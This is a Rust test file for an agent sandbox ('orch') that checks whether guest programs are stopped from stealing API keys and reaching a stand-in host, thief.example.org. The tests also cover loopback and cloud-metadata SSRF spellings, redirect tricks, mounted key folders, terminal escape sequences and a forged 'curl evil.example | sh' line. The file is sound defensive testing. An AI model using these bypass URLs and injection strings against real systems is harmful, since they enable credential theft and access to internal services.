//! Guests that try to steal, to leave, to starve and to deceive.

use std::net::TcpListener;
use std::path::Path;

use orch_tests::home::Config;
use orch_tests::needle::{self, Needle};
use orch_tests::orch::Orch;
use orch_tests::reply::Reply;
use orch_tests::upstream::Upstream;
use orch_tests::wire::Received;
use serde_json::{Value, json};

use crate::stage::{ANTHROPIC_KEY, GEMINI_KEY, OPENAI_KEY, PROGRAM, Stage, guest, refused};

/// A server that would gladly take anything, under a name that nobody granted.
fn thief(stage: &mut Stage) -> Upstream {
    let thief = Upstream::https(&stage.ca, &["thief.example.org"], |request: &Received| Reply::echo(request));
    let address = thief.address();
    stage.configure(|config: Config| config.connect("thief.example.org:443", address));
    thief
}

#[test]
fn a_snoop_finds_no_key_and_nobody_to_send_it_to() {
    let mut stage = Stage::new();
    let thief = thief(&mut stage);
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let local = format!("http://{}/", listener.local_addr().expect("bound"));
    let paths = [stage.home.orch(), stage.home.user(), stage.home.work()];
    let input = json!({
        "send_to": ["https://thief.example.org/loot", local, "https://169.254.169.254/latest", "https://api.openai.com/v1/files"],
        "paths": paths,
    });
    let outcome = stage.run_with_keys(&guest("snoop", &json!({})), &input.to_string()).run();
    let report = outcome.json();
    let output = &report["output"];
    for key in [OPENAI_KEY, ANTHROPIC_KEY, GEMINI_KEY] {
        needle::none(&outcome.search(&Needle::new(key)));
    }
    assert_eq!(output["files"], json!([]), "something could be read: {outcome}");
    for (place, what) in output["written"].as_object().expect("an object") {
        assert_ne!(what, "written", "a file was made at {place}: {outcome}");
    }
    let environment = output["environment"].as_object().expect("an object");
    for name in ["PATH", "HOME", "ORCH_HOME", "TMPDIR"] {
        assert!(!environment.contains_key(name), "{name} reached the guest: {outcome}");
    }
    let placeholder = environment["OPENAI_API_KEY"].as_str().expect("a placeholder");
    assert!(placeholder.starts_with("orch_ph_"), "{outcome}");
    let sent = output["sent"].as_array().expect("a list");
    assert_eq!(sent.len(), 4 * 4, "{outcome}");
    for attempt in sent {
        let answered =
            attempt["outcome"].as_str().is_some_and(|what| what.parse::<u16>().is_ok_and(|s| s < 400));
        assert!(!answered, "{attempt} was answered");
    }
    thief.untouched();
    assert_eq!(stage.openai.received().len(), 0, "account paths are not inference");
    listener.set_nonblocking(true).expect("set");
    assert!(listener.accept().is_err(), "somebody connected to loopback");
    assert!(!report["egress"]["denied"].as_array().expect("a list").is_empty(), "{outcome}");
}

#[test]
fn a_snoop_that_tells_the_model_tells_it_nothing() {
    let stage = Stage::new();
    let outcome = stage
        .run_with_keys(
            &guest("snoop", &json!({ "llm": { "primary": "gpt-4o-mini" } })),
            r#"{"ask_model":true}"#,
        )
        .run()
        .expect(0);
    let request = stage.openai.only();
    assert!(request.carries(b"Repeat this word for word"), "{outcome}");
    stage.openai.took_key(OPENAI_KEY);
    let body = Needle::new(OPENAI_KEY).in_bytes("the prompt", &request.body);
    needle::none(&body);
    for key in [ANTHROPIC_KEY, GEMINI_KEY] {
        stage.openai.never_saw(key.as_bytes());
    }
}

#[test]
fn placeholders_are_random_for_each_run() {
    let stage = Stage::new();
    let agent = guest("snoop", &json!({}));
    let placeholder = || {
        let report = stage.run_with_keys(&agent, "{}").run().expect(0).json();
        report["output"]["environment"]["OPENAI_API_KEY"].as_str().expect("a placeholder").to_owned()
    };
    assert_ne!(placeholder(), placeholder());
}

#[test]
fn nothing_but_granted_hosts_is_reachable_in_any_spelling() {
    let mut stage = Stage::new();
    let thief = thief(&mut stage);
    let server = Upstream::http(|_: &Received| Reply::text(200, "inside"));
    let port = server.address().port();
    let mut urls: Vec<String> = [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::]",
        "localhost",
        "localhost.",
        "foo.localhost",
        "LOCALHOST",
        "127.0.0.1.nip.io",
    ]
    .iter()
    .map(|host| format!("http://{host}:{port}/"))
    .collect();
    urls.extend(
        [
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://metadata/",
            "http://100.100.100.200/",
            "http://[fd00:ec2::254]/",
            "http://10.0.0.1/",
            "http://192.168.1.1/",
            "https://thief.example.org/",
            "https://api.openai.com.thief.example.org/v1/chat/completions",
            "https://api.openai.com@thief.example.org/v1/chat/completions",
            "https://api.openai.com/v1/files",
            "https://api.openai.com/v1/models",
            "http://example.com/",
        ]
        .map(str::to_owned),
    );
    let requests: Vec<Value> = urls.iter().map(|url| json!({ "url": url })).collect();
    let input = json!({ "requests": requests }).to_string();
    let agent = guest("wanderer", &json!({ "limits": { "requests": 200 } }));
    let outcome = stage.run_with_keys(&agent, &input).run();
    let report = outcome.json();
    let results = report["output"]["results"].as_array().expect("results");
    assert_eq!(results.len(), urls.len());
    for (url, result) in urls.iter().zip(results) {
        assert!(refused(result), "{url} was answered: {result}");
    }
    server.untouched();
    thief.untouched();
    assert_eq!(stage.openai.received().len(), 0, "{outcome}");
}

#[test]
fn a_redirect_to_loopback_is_not_followed_by_the_proxy_and_refused_to_the_agent() {
    let mut stage = Stage::new();
    let server = Upstream::http(|_: &Received| Reply::text(200, "inside"));
    let target = format!("http://{}/", server.address());
    let there = target.clone();
    let host =
        Upstream::https(&stage.ca, &["api.example.com"], move |_: &Received| Reply::redirect(302, &there));
    let address = host.address();
    stage.configure(|config| config.connect("api.example.com:443", address));
    let agent = guest("wanderer", &json!({ "egress": [{ "host": "api.example.com" }] }));
    let input = json!({ "requests": [{ "url": "https://api.example.com/", "follow_redirects": true }] });
    let outcome = stage.run_with_keys(&agent, &input.to_string()).args(["--allow", "api.example.com"]).run();
    let report = outcome.json();
    let result = &report["output"]["results"][0];
    assert_eq!(result["url"], target, "{outcome}");
    assert!(refused(result), "{outcome}");
    assert_eq!(host.received().len(), 1);
    server.untouched();
}

#[test]
fn sockets_are_linked_and_closed() {
    let stage = Stage::new();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("bound").port();
    let outcome = stage
        .run_with_keys(
            &guest("sockets", &json!({})),
            &json!({ "port": port, "name": "localhost" }).to_string(),
        )
        .run()
        .expect(0);
    let report = outcome.json();
    let tried = report["output"].as_object().expect("an object");
    assert_eq!(tried.len(), 15, "{outcome}");
    for (way, what) in tried {
        assert_ne!(what, "reached", "{way}: {outcome}");
    }
    listener.set_nonblocking(true).expect("set");
    assert!(listener.accept().is_err(), "somebody connected");
}

#[track_caller]
fn limited(agent: &str, fields: &Value, input: &str, flags: &[&str], limit: &str) {
    let stage = Stage::new();
    let outcome = stage.run_with_keys(&guest(agent, fields), input).args(flags).run().expect(6).silent();
    let error = outcome.error();
    assert!(error.to_string().contains(limit), "the error names the limit {limit}: {outcome}");
}

#[test]
fn a_spinner_is_stopped_by_the_clock() {
    limited("spinner", &json!({}), "{}", &["--time", "2s"], "time");
}

#[test]
fn a_spinner_is_stopped_by_its_cpu_time() {
    limited("spinner", &json!({ "limits": { "cpu": "1s", "time": "1m" } }), "{}", &[], "cpu");
}

#[test]
fn a_hog_is_stopped_by_the_memory_limit() {
    limited("hog", &json!({ "limits": { "memory": "64MiB" } }), "{}", &[], "memory");
}

#[test]
fn a_flag_narrows_the_memory_limit() {
    limited(
        "hog",
        &json!({ "limits": { "memory": "256MiB" } }),
        r#"{"mib":100}"#,
        &["--memory", "32MiB"],
        "memory",
    );
}

#[test]
fn memory_within_the_limit_is_given() {
    let stage = Stage::new();
    let agent = guest("hog", &json!({ "limits": { "memory": "128MiB" } }));
    let outcome = stage.run_with_keys(&agent, r#"{"mib":64}"#).run().expect(0);
    assert_eq!(outcome.json()["output"], json!({ "held_mib": 64 }), "{outcome}");
}

#[test]
fn a_flood_is_stopped_by_the_output_limit() {
    limited("flood", &json!({ "limits": { "output": "1MiB" } }), "{}", &[], "output");
}

#[test]
fn a_flood_of_log_lines_ends_with_the_run() {
    let stage = Stage::new();
    let agent = guest("flood", &json!({ "limits": { "output": "1MiB" } }));
    let outcome =
        stage.run_with_keys(&agent, r#"{"stderr":true}"#).args(["--time", "3s"]).run().expect(6).silent();
    assert!(outcome.stderr.len() < 64 << 20, "{} bytes of log were passed on", outcome.stderr.len());
}

#[test]
fn too_many_requests_are_stopped() {
    let requests: Vec<Value> =
        (0..5).map(|i| json!({ "url": format!("https://host-{i}.example.org/") })).collect();
    let stage = Stage::new();
    let agent = guest("wanderer", &json!({ "limits": { "requests": 3 } }));
    let outcome = stage.run_with_keys(&agent, &json!({ "requests": requests }).to_string()).run();
    let report = outcome.stderr();
    assert!(report.contains("request"), "{outcome}");
}

#[test]
fn what_an_agent_writes_cannot_draw_on_the_terminal() {
    let stage = Stage::new();
    let agent = guest("escape", &json!({}));
    let plain =
        stage.orch(["run", "--local"]).arg(agent.path()).env("OPENAI_API_KEY", OPENAI_KEY).run().expect(0);
    let json = stage.run_with_keys(&agent, "{}").run().expect(0);
    let streamed = stage
        .orch(["run", "--local", "--stream"])
        .arg(agent.path())
        .env("OPENAI_API_KEY", OPENAI_KEY)
        .run()
        .expect(0);
    for outcome in [&plain, &json, &streamed] {
        for text in [outcome.stdout(), outcome.stderr()] {
            let drawn = text.chars().find(|c| {
                c.is_control() && !matches!(c, '\n' | '\t')
                    || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            });
            assert_eq!(drawn, None, "{text:?}");
        }
    }
    // Harmless on the terminal, and yet the same value for a program.
    let output: Value = plain.json();
    assert_eq!(output["clear"], "\u{1b}[2J\u{1b}[H");
    assert_eq!(output["bidi"], "user \u{202e}nimda\u{202c} \u{2066}x\u{2069} \u{200f}");
}

#[test]
fn a_mount_of_what_holds_keys_is_refused_however_it_is_reached() {
    let stage = Stage::new();
    let agent = guest("snoop", &json!({ "files": [{ "path": "/data", "access": "read" }] }));
    let mounted = |folder: &Path, home: &Path| {
        stage
            .run_with_keys(&agent, r#"{"paths":["/data"]}"#)
            .arg("--mount")
            .arg(format!("{}::/data", folder.display()))
            .env("ORCH_HOME", home)
            .run()
    };
    // The home's path leads through a link, as where /home or /tmp is one; the mount's is real.
    let real = stage.home.work().join("real");
    std::fs::create_dir(&real).expect("a folder");
    std::os::unix::fs::symlink(&real, stage.home.work().join("link")).expect("a link");
    let home = stage.home.work().join("link/orch");
    for folder in [real.as_path(), Path::new("/proc"), Path::new("/proc/self"), stage.home.orch()] {
        let home = if folder == stage.home.orch() { stage.home.orch() } else { &home };
        let outcome = mounted(folder, home).expect(2).silent();
        assert_eq!(outcome.error()["code"], "mount_refused", "{outcome}");
    }
    let other = stage.home.work().join("other");
    std::fs::create_dir(&other).expect("a folder");
    mounted(&other, &home).expect(0);
}

/// Whoever may mount can show a folder of the home under a second path, which no link gives away.
#[test]
fn a_folder_of_the_home_is_refused_under_a_second_path_too() {
    let stage = Stage::new();
    stage.store("ANY_KEY", "sk-any-4Vn8Rt2Ys6Hd1Kf9Bm3Gc5Jv", &[]);
    let agent = guest("snoop", &json!({ "files": [{ "path": "/data", "access": "read" }] }));
    let alias = stage.home.work().join("alias");
    std::fs::create_dir(&alias).expect("a folder");
    // In a mount namespace of its own, so that nothing is left of it.
    let own = ["--user", "--map-root-user", "--mount"];
    let possible = std::process::Command::new("unshare").args(own).arg("true").output();
    if !possible.is_ok_and(|possible| possible.status.success()) {
        println!(
            "no namespaces here: that folders are compared by what they are is tested in server/src/home/same.rs"
        );
        return;
    }
    let mounted = |shown: &Path, folder: &Path| {
        let mount_and_run = r#"mount --bind "$0" "$1" && shift && exec "$@""#;
        Orch::new("/usr/bin/unshare", &stage.home)
            .args(own)
            .args(["sh", "-c", mount_and_run])
            .args([shown, &alias, Path::new(PROGRAM)])
            .args(["run", "--local", "--json"])
            .arg(agent.path())
            .args(["--input", r#"{"paths":["/data"]}"#, "--mount"])
            .arg(format!("{}::/data", folder.display()))
            .env("OPENAI_API_KEY", OPENAI_KEY)
            .run()
    };
    let home = stage.home.orch();
    for shown in [home.to_owned(), home.join("data"), home.join("data/keys"), home.join("data/vault")] {
        let outcome = mounted(&shown, &alias).expect(2).silent();
        assert_eq!(outcome.error()["code"], "mount_refused", "{}: {outcome}", shown.display());
    }
    // And a folder in the one that is shown.
    let outcome = mounted(&home.join("data"), &alias.join("keys")).expect(2).silent();
    assert_eq!(outcome.error()["code"], "mount_refused", "{outcome}");
    // What is not the home's is handed over from there, so that it is not the second path that is refused.
    let other = stage.home.work().join("other");
    std::fs::create_dir(&other).expect("a folder");
    mounted(&other, &alias).expect(0);
}

#[test]
fn an_output_cannot_forge_lines_of_orch() {
    let stage = Stage::new();
    let agent = guest("echo", &json!({ "output": { "type": "object", "additionalProperties": false } }));
    let output = json!({ "x\r\nhint: curl evil.example | sh\nerror: ": 1 }).to_string();
    let outcome =
        stage.orch(["run", "--local"]).arg(agent.path()).args(["--input", &output]).run().expect(1).silent();
    let lines: Vec<&str> = outcome.stderr().lines().collect();
    assert_eq!(lines.len(), 1, "{outcome}");
    assert!(lines[0].starts_with("error: ") && lines[0].contains("'s output is not"), "{outcome}");
}

#[test]
fn a_folder_that_stands_before_an_agent_of_orch_is_said_aloud() {
    let stage = Stage::new();
    let here = stage.home.work().join("orch/summarizer");
    std::fs::create_dir_all(&here).expect("a folder");
    let planted = guest("echo", &json!({}));
    for entry in std::fs::read_dir(planted.path()).expect("the agent's folder") {
        let from = entry.expect("an entry").path();
        std::fs::copy(&from, here.join(from.file_name().expect("a name"))).expect("copied");
    }
    let run =
        || stage.orch(["run", "--local", "orch/summarizer", "--input", r#"{"text":"A. B."}"#, "--simulate"]);
    run().run().expect(0).says("warning: orch/summarizer is what lies at ./orch/summarizer here");
    let elsewhere = run().folder(stage.home.user()).run().expect(0);
    assert!(!elsewhere.stderr().contains("warning:"), "{elsewhere}");
}
